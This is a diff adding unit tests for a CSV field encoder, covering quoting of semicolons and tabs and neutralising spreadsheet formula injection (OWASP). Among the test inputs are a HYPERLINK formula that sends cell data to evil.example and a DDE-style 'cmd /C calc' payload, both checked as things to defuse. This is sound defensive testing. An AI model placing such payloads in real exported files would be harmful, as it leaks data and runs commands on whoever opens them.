@@ -25,6 +25,34 @@ describe('CSV fields (RFC 4180)', () => {
     expect(csvRecord(['a', null, '1.50', 'x,y'])).toBe('a,,1.50,"x,y"\r\n');
   });
 
+  it('quotes a field with a semicolon or a tab too, the separators of other locales', () => {
+    expect(csvField('a;b')).toBe('"a;b"');
+    expect(csvField('a\tb')).toBe('"a\tb"');
+  });
+
+  it('neutralises text a spreadsheet would run as a formula with a leading single quote (OWASP)', () => {
+    expect(csvField('=HYPERLINK("http://evil.example/?leak="&A1,"Click")')).toBe(
+      `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`,
+    );
+    expect(csvField('+SUM(1,2)')).toBe(`"'+SUM(1,2)"`);
+    expect(csvField("-2+3+cmd|' /C calc'!A0")).toBe("'-2+3+cmd|' /C calc'!A0");
+    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
+    expect(csvField('\t=1+1')).toBe(`"'\t=1+1"`);
+    expect(csvField('\r=1+1')).toBe(`"'\r=1+1"`);
+    expect(csvField('-')).toBe("'-");
+    // Only at the start: elsewhere these characters are text.
+    expect(csvField('Cetus = CLMM')).toBe('Cetus = CLMM');
+    // A cell a semicolon locale would split is quoted whole: no part of it starts a cell.
+    expect(csvField('name;=1+1')).toBe('"name;=1+1"');
+  });
+
+  it('leaves numbers as numbers, negative ones included', () => {
+    for (const number of ['-12.5', '-0.000001', '+3', '-1e-9', '-430203.82196631157475640137201471576356', '0'])
+      expect(csvField(number)).toBe(number);
+    expect(csvField(-3)).toBe('-3');
+    expect(csvField('-1.2.3')).toBe("'-1.2.3");
+  });
+
   it('numeric text goes through untouched, however many digits', () => {
     const long = '430203.82196631157475640137201471576356';
     expect(csvField(long)).toBe(long);
